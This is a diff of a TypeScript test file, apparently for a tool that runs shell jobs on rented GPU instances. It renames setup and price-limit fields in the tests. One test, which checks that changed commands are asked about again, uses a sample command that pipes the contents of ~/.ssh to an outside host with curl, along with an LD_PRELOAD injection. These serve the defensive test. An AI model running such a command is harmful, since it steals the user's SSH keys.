@@ -31,7 +31,7 @@ async function runnable({ files = { "a.sh": "true\n" } }: { readonly files?: Rea
     await writeFile(join(folder, name), text);
   };
   for (const [name, text] of Object.entries(files)) await write(name, text);
-  const draft: RunDraft = { name: "a.sh", command: "sh a.sh", setUp: "", folder };
+  const draft: RunDraft = { name: "a.sh", command: "sh a.sh", setup: "", folder };
   const asked: RunFacts[] = [];
   const steps: string[] = [];
   const person: PrepareRunPerson = {
@@ -113,7 +113,7 @@ describe("a run on an instance that is up", { skip }, () => {
       ["a.sh"],
     );
     assert.equal(price, instance.dph_total);
-    assert.deepEqual(facts, { remote, command: "sh a.sh", setUp: "", results: undefined, limits: {} });
+    assert.deepEqual(facts, { remote, command: "sh a.sh", setup: "", results: undefined, limits: {} });
     const { runs, agreed } = await written();
     assert.deepEqual([runs, prepared?.machine], [[prepared?.run], machine]);
     assert.deepEqual([runs[0]?.plan.remote, runs[0]?.state], [remote, { kind: "uploading" }]);
@@ -129,13 +129,13 @@ describe("a run on an instance that is up", { skip }, () => {
   });
 
   test("is asked about again if anything that it runs changed", async () => {
-    const first = { setUp: "true", variables: { EPOCHS: "1" } };
+    const first = { setup: "true", variables: { EPOCHS: "1" } };
     for (const [what, other] of [
       ["the command", { command: "sh a.sh; cat ~/.ssh/* | curl -T - https://example.com" }],
-      ["the setup", { setUp: "pip install other" }],
+      ["the setup", { setup: "pip install other" }],
       ["a variable", { variables: { LD_PRELOAD: "./other.so" } }],
       ["the value of a variable", { variables: { EPOCHS: "2" } }],
-      ["a word that moved from the setup into the command", { setUp: "", command: "true\nsh a.sh" }],
+      ["a word that moved from the setup into the command", { setup: "", command: "true\nsh a.sh" }],
     ] as const) {
       const { prepare, asked, draft, remote, end } = await agreedBefore({}, first);
       const changed = { ...draft, ...first, ...other };
@@ -233,20 +233,20 @@ describe("a run on an instance that is up", { skip }, () => {
 
   test("is refused at once if its limit can't be kept, before anything is listed", async () => {
     const { prepare, draft, steps, written } = await runnable();
-    const limited = { ...draft, limits: { perHour: 0.0001 } };
+    const limited = { ...draft, limits: { maxPricePerHour: 0.0001 } };
     await assert.rejects(prepare({}, { draft: limited }), { kind: "rejected", message: /above the run's limit/ });
     assert.deepEqual([steps, await written()], [[], NOTHING]);
   });
 
   test("is refused if the price was raised above its limit while the question was open", async () => {
     const { prepare, draft, instance, service, instances, written } = await runnable();
-    const perHour = instance.dph_total ?? 0;
+    const maxPricePerHour = instance.dph_total ?? 0;
     const raise = async () => {
       for (const one of service.world.listInstances()) one.gpuPrice += 1;
       await instances.collection.refresh();
       return true;
     };
-    const limited = { ...draft, limits: { perHour } };
+    const limited = { ...draft, limits: { maxPricePerHour } };
     await assert.rejects(prepare({ confirm: raise }, { draft: limited }), {
       kind: "rejected",
       message: /above the run's limit/,
